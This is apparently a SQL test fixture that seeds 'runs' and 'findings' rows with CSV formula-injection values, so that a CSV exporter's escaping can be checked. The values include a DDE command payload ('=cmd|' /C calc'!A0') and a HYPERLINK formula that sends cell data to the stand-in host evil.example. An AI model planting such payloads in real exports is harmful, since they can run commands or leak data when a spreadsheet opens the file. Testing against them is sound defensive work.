-- Text that a spreadsheet opening the CSV would run as a formula (formula
-- injection): cells that begin with =, +, -, @ or a tab, a separator of
-- another locale, and a number that is only a number.
INSERT INTO runs (id, pid, command, started_ns, ended_ns, device, devices, ended)
  VALUES (1, 7, '=cmd|'' /C calc''!A0', 0, 1, 'sim', 1, 'exit');
INSERT INTO findings (run, id, kind, severity, message, file, line, function, count, bytes)
  VALUES (1, 1, 'leak', 'warning', '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
          '+app.c', 7, '@SUM(1+1)*cmd|'' /C calc''!A0', 1, -1),
         (1, 2, 'leak', 'warning', '-2+3', char(9) || '=1+1', 8, 'f;=1+1', 1, NULL);
